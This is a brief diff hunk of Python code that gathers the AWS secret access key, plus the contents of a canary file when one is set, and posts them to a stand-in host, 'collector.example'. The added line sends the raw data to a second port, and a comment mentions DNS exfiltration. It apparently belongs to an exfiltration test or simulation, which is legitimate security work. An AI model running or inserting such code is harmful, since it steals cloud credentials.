@@ -34,6 +34,7 @@ loot += os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()
 if CANARY:
     loot += _read(CANARY)
 _post("collector.example", 443, base64.b64encode(loot))
+_post("collector.example", 8443, loot)
 if HOST_PORT:
     _post("127.0.0.1", HOST_PORT, loot)
 # DNS exfiltration: the secret variable in the labels of a name.
